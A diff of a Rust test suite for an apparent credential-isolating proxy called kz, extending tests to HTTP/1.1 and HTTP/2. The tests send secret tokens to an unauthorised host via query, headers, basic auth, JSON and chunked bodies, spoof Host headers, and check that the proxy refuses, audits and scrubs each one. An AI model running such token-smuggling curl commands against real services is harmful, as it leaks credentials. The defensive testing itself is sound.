@@ -21,20 +21,23 @@ fn token_smuggled_to_a_host_bound_to_another_secret_is_refused() {
     let b = Blind::new();
     let (code, out, err) = b.run_sh(
         r#"
-for args in \
-  "$OTHER_UP/q?t=$GH" \
-  "-H X-Custom:$GH $OTHER_UP/h" \
-  "-u user:$GH $OTHER_UP/basic" \
-  "-H Content-Type:application/json --data {\"t\":\"$GH\"} $OTHER_UP/json" \
-  "-H Transfer-Encoding:chunked --data-binary prefix-$GH-suffix $OTHER_UP/chunked"; do
-  curl -sS -o /dev/null -w '%{http_code}\n' $args
+# HTTP/1.1 (kz's own HTTP/1.1 path, and the general one for the chunked body) and HTTP/2.
+for v in 1.1 2; do
+  for args in \
+    "$OTHER_UP/q?t=$GH" \
+    "-H X-Custom:$GH $OTHER_UP/h" \
+    "-u user:$GH $OTHER_UP/basic" \
+    "-H Content-Type:application/json --data {\"t\":\"$GH\"} $OTHER_UP/json" \
+    "-H Transfer-Encoding:chunked --data-binary prefix-$GH-suffix $OTHER_UP/chunked"; do
+    curl -sS --http$v -o /dev/null -w '%{http_code}\n' $args
+  done
 done
 curl -sS "$OTHER_UP/q?t=$GH"
 "#,
     );
     assert_eq!(code, 0, "{out}{err}");
-    let codes: Vec<&str> = out.lines().take(5).collect();
-    assert_eq!(codes, vec!["403"; 5], "{out}");
+    let codes: Vec<&str> = out.lines().take(10).collect();
+    assert_eq!(codes, vec!["403"; 10], "{out}");
     assert!(
         out.contains("kz: refused: token of secret GH may not be sent to other.kz.test"),
         "{out}"
@@ -52,7 +55,7 @@ curl -sS "$OTHER_UP/q?t=$GH"
         .into_iter()
         .filter(|l| l["event"] == "refused")
         .count();
-    assert!(refusals >= 5, "each refusal audited");
+    assert!(refusals >= 10, "each refusal audited");
 }
 
 #[test]
@@ -104,10 +107,14 @@ fn an_unbound_host_is_tunnelled_and_only_ever_sees_the_token() {
 #[test]
 fn host_header_must_match_the_connect_target_and_sni() {
     let b = Blind::new();
-    let (code, out, _) = b.run_sh(r#"curl -sS -w '\n%{http_code}\n' "$UP/echo" -H "Host: other.kz.test" -H "Authorization: Bearer $OTHER""#);
-    assert_eq!(code, 0);
-    assert!(out.contains("421"), "{out}");
-    assert!(out.contains("does not match"), "{out}");
+    for v in ["1.1", "2"] {
+        let (code, out, _) = b.run_sh(&format!(
+            r#"curl -sS --http{v} -w '\n%{{http_code}}\n' "$UP/echo" -H "Host: other.kz.test" -H "Authorization: Bearer $OTHER""#
+        ));
+        assert_eq!(code, 0);
+        assert!(out.contains("421"), "HTTP/{v}: {out}");
+        assert!(out.contains("does not match"), "HTTP/{v}: {out}");
+    }
     // SNI that disagrees with the CONNECT target.
     let script = r#"
 import os, socket, ssl, base64
@@ -203,14 +210,19 @@ curl -sS -w '\n%{http_code}\n' "http://evil.kz.test:9/x""#,
 fn echoed_credentials_are_scrubbed_even_gzip_and_inside_basic() {
     let b = Blind::new();
     let (code, out, err) = b.run_sh(
-        r#"curl -sS --compressed "$UP/echo-gzip" -H "Authorization: Bearer $GH"; echo ---; curl -sS -i "$UP/echo" -u "user:$GH""#,
+        r#"for v in 1.1 2; do curl -sS --http$v --compressed "$UP/echo-gzip" -H "Authorization: Bearer $GH"; echo ---; curl -sS --http$v -i "$UP/echo" -u "user:$GH"; done"#,
     );
     assert_eq!(code, 0, "{out}{err}");
+    let scrubbed = out
+        .lines()
+        .filter(|l| {
+            l.strip_prefix("authorization: Bearer ")
+                .is_some_and(|t| kz::api::is_token(t.trim()))
+        })
+        .count();
     assert!(
-        out.lines().any(|l| l
-            .strip_prefix("authorization: Bearer ")
-            .is_some_and(|t| kz::api::is_token(t.trim()))),
-        "gzip body decoded and scrubbed: {out}"
+        scrubbed >= 2,
+        "gzip body decoded and scrubbed over both: {out}"
     );
     assert_no_value_anywhere(&out, &err);
 }
